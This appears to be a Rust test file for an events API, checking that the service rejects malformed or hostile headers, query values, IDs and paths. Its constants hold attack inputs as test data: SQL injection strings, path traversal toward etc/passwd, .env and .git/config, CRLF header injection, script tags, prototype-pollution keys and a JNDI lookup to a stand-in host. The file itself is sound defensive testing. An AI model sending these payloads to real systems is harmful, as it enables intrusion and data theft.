//! Headers, paths and queries.

use axum::http::Method;
use tests::sample;

use crate::{
    case::{Case, case_of, case_with_id, operations},
    service::{assert_accepted, assert_rejected},
};

#[tokio::test(flavor = "multi_thread")]
async fn hostile_headers_are_rejected() {
    let mut cases = Vec::new();
    for operation in operations() {
        for (header, code, values) in HEADERS.iter().filter(|(header, ..)| operation.has(header)) {
            cases.extend(values.iter().map(|value| case_of(&operation, code).header(header, *value)));
        }
        for (parameter, values) in PARAMETERS.iter().filter(|(parameter, _)| operation.has(parameter)) {
            cases.extend(values.split_ascii_whitespace().chain([""]).map(|value| {
                let case = case_of(&operation, "C_003");
                Case { path: format!("{}?{parameter}={value}", case.path), ..case }
            }));
        }
        if operation.has("eventId") {
            cases.extend(EVENT_IDS.split_ascii_whitespace().map(|id| case_with_id(&operation, id, "E_002")));
        }
        if operation.media_type.is_some() {
            let types = MEDIA_TYPES.split('|').map(|value| case_of(&operation, "C_004").header("Content-Type", value));
            let encodings =
                ENCODINGS.split('|').map(|value| case_of(&operation, "C_004").header("Content-Encoding", value));
            cases.extend(types.chain(encodings));
        }
    }
    let get = |path: &str, code| Case::new(Method::GET, path, code);
    cases.extend(PATHS.split_ascii_whitespace().map(|path| get(path, "C_008")));
    cases.extend([Method::PUT, Method::TRACE].map(|method| Case::new(method, "/api/v1/events", "C_008")));
    let large = |path: &str, code| get(&format!("{path}{}", "a".repeat(8_000)), code);
    cases.extend([large("/api/v1/events?q=", "C_003"), large("/api/v1/events/", "E_002")]);
    cases.push(get(&format!("/api/v1/events?a={}", "A".repeat(9_000)), "C_003"));
    cases.push(get(&format!("/api/v1/events?q={}", "%F0%9F%8E%AB".repeat(51)), "C_003"));
    assert_rejected(&cases).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn harmless_headers_are_accepted() {
    let list = |query: &str| Case::new(Method::GET, format!("/api/v1/events?{query}"), "0");
    let tags = TAGS.iter().map(|tags| list("").header("If-None-Match", *tags));
    let queries = QUERIES.split_ascii_whitespace().map(list);
    let ignored =
        IGNORED.iter().map(|(name, value)| Case::join(sample::member().to_string(), "0").header(name, *value));
    let many = [
        list(&"a[]=1&".repeat(300)),
        list("").header("Accept-Encoding", "gzip;q=1,".repeat(500)),
        list("").header("Accept-Encoding", b"gzip\xFF"),
    ];
    assert_accepted(&tags.chain(queries).chain(ignored).chain(many).collect::<Vec<_>>()).await;
}

/// Headers with the code of their rejection and hostile values.
const HEADERS: [(&str, &str, &[&[u8]]); 3] = [
    (
        "Idempotency-Key",
        "C_003",
        &[b"", b"a b", b"a, b", &[b'a'; 65], b"\xFF\xFE", b"a\xC2\x85b", "a\u{10a}Set-Cookie:".as_bytes()],
    ),
    (
        "If-Match",
        "C_003",
        &[b"", b",,,", b"a", b"\"a", b"'a'", b"*, \"a\"", b"\"a\" \"b\"", b"w/\"a\"", &[b'"'; 8_001]],
    ),
    (
        "x-api-managerId",
        "AM_001",
        &[
            b"",
            b"null",
            b"6f1dd7b46a244c539f5e0d1c8a3b2e11",
            b"{6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11}",
            b"6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11, 6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11",
            b"6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11#a",
            b"' OR '1'='1",
            "６f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11".as_bytes(),
        ],
    ),
];

/// Query parameters with hostile values; no value is hostile, too.
const PARAMETERS: [(&str, &str); 8] = [
    ("limit", "0 501 -1 %2B1 1e1 0x10 1.0 18446744073709551617 %EF%BC%91 1%00 %3Cscript%3E"),
    ("cursor", "next AZahsgAAcACAAAAAAACrzQAAAAAAAAAAAAAAAAAAAAA AAAA%3D%3D %7B%22pk%22%3A%22EVENT%22%7D ..%2F..%2Fa"),
    ("status", "LIVE live,deleted live%20 live%00 LIVE%23 '%20OR%20'1'='1"),
    ("q", "%E2%80%8B %E3%85%A4%20%EF%BE%A0"),
    ("from", "2026-12-01 2016-12-31T23:59:60Z -1 1e999999 NaN 0x10 %221%22 2&to=1"),
    ("to", "1%00 2026-12-01T00:00:00+09:00"),
    ("ticketing", "closed open,upcoming"),
    ("sort", "__proto__ title;DROP show&cursor=next"),
];

const EVENT_IDS: &str = "..%2f..%2fetc%2fpasswd ..%5c..%5ca %00 a%0d%0aSet-Cookie:%20b=c * %7BeventId%7D \
    %3Cscript%3Ealert(1)%3C%2Fscript%3E '%20OR%20'1'='1 EVENT%231 %c0%af %ff %2 0196a1b20000700080000000000abcd0 \
    %7B0196a1b2-0000-7000-8000-00000000abcd%7D urn:uuid:0196a1b2-0000-7000-8000-00000000abcd \
    0196a1b2-0000-7000-8000-00000000abcd%00 0196a1b2-0000-7000-8000-00000000abcd;a=b";

/// Media types that no route accepts.
const MEDIA_TYPES: &str = "|*/*|text/plain|text/json|application/ json|application/json-patch+json|application/xml\
    |application/x-www-form-urlencoded|multipart/mixed; boundary=a|multipart/form-data-x; boundary=a\
    |text/plain, application/json, multipart/form-data; boundary=a";

const ENCODINGS: &str = "gzip|br|gzip, gzip|identity, gzip|aws-chunked";

/// Paths without a route.
const PATHS: &str = "/api/v1/events/ /api/v1/events%2f //api//v1//events /API/v1/events /api/v2/events \
    /api/v1/events;a=b /api/v1/events.json /api/v1/events%00 /.env /.git/config /upload/..%2f..%2fcursor-key \
    /upload/..%5c..%5ccursor-key /upload/a%00.png /upload/.bucket /upload/%ff.png /upload/%2fetc%2fpasswd /upload/";

const TAGS: [&[u8]; 5] = [b"\"a", &[b'"'; 1_000], &[b','; 1_000], b"\"\xFF\"", b"\"*\""];

/// Queries that select nothing. NFKC makes 18 letters of the first character.
const QUERIES: &str = "q=%EF%B7%BA%3Cscript%3E q=%27%22%3B-- q=(a%2B)%2B%24 q=%00 q=%ED%A0%80 q=%23pk%20%3Alive \
    sort=show&sort=x Q=&Sort=x __proto__[limit]=0&constructor=a";

/// Headers that the service ignores.
const IGNORED: [(&str, &str); 8] = [
    ("X-Forwarded-For", "127.0.0.1, <script>, ../../a"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-Original-URL", "/admin"),
    ("X-HTTP-Method-Override", "DELETE"),
    ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("X-Amzn-Trace-Id", "Root=1-../../a;Sampled=9"),
    ("x-request-id", "a\tb"),
    ("Range", "bytes=0-0,0-0,0-0,0-0,0-0,0-0"),
];
